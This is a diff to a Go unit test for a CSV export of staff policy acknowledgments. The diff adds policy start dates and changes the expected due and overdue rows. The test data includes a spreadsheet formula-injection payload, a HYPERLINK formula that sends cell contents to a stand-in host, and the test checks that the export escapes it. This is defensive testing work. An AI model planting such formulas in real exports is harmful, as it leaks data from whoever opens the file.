@@ -21,8 +21,8 @@ func TestWriteCSV(t *testing.T) {
 		{Email: "evil@x.is", Name: `=HYPERLINK("http://x.example/?"&A1,"Smelltu")`, Workplaces: []string{"laug"}},
 	}
 	ps := []Policy{
-		{ID: "thjonusta", Title: "Þjónustustefna, ný", Version: 2, Within: 14},
-		{ID: "laug/oryggi", Title: "-Öryggi", Workplace: "laug", Version: 1, Within: 30},
+		{ID: "thjonusta", Title: "Þjónustustefna, ný", Version: 2, Within: 14, Since: at(t, "2026-01-01T09:00:00Z")},
+		{ID: "laug/oryggi", Title: "-Öryggi", Workplace: "laug", Version: 1, Within: 30, Since: at(t, "2025-12-01T09:00:00Z")},
 	}
 	acks := []store.Acknowledgment{
 		{Email: "thora@x.is", Policy: "thjonusta", Version: 1, At: time.Date(2026, 1, 5, 10, 30, 0, 0, time.FixedZone("", -3600))},
@@ -42,12 +42,13 @@ func TestWriteCSV(t *testing.T) {
 	}
 	want := [][]string{
 		{"email", "name", "policy_id", "policy_title", "current_version", "acknowledged_version", "acknowledged_at", "due", "state", "overdue"},
-		// Þóra is overdue with thjonusta (an older version), and comes first.
+		// No start day: due from when each version was first served, overdue since 31
+		// December, longer than Þóra, so first.
+		{"evil@x.is", `'=HYPERLINK("http://x.example/?"&A1,"Smelltu")`, "thjonusta", "Þjónustustefna, ný", "2", "", "", "2026-01-15", "never", "yes"},
+		{"evil@x.is", `'=HYPERLINK("http://x.example/?"&A1,"Smelltu")`, "laug/oryggi", "'-Öryggi", "1", "", "", "2025-12-31", "never", "yes"},
+		// Þóra is overdue with thjonusta (an older version) since 15 January.
 		{"thora@x.is", "Þóra Ævarsdóttir", "thjonusta", "Þjónustustefna, ný", "2", "1", "2026-01-05T11:30:00Z", "2026-01-15", "older", "yes"},
 		{"thora@x.is", "Þóra Ævarsdóttir", "laug/oryggi", "'-Öryggi", "1", "1", "2026-01-06T08:00:00Z", "2026-01-31", "current", "no"},
-		// No start day and no versions served: no due day.
-		{"evil@x.is", `'=HYPERLINK("http://x.example/?"&A1,"Smelltu")`, "thjonusta", "Þjónustustefna, ný", "2", "", "", "", "never", "no"},
-		{"evil@x.is", `'=HYPERLINK("http://x.example/?"&A1,"Smelltu")`, "laug/oryggi", "'-Öryggi", "1", "", "", "", "never", "no"},
 	}
 	if len(records) != len(want) {
 		t.Fatalf("records:\n%q\nwant\n%q", records, want)
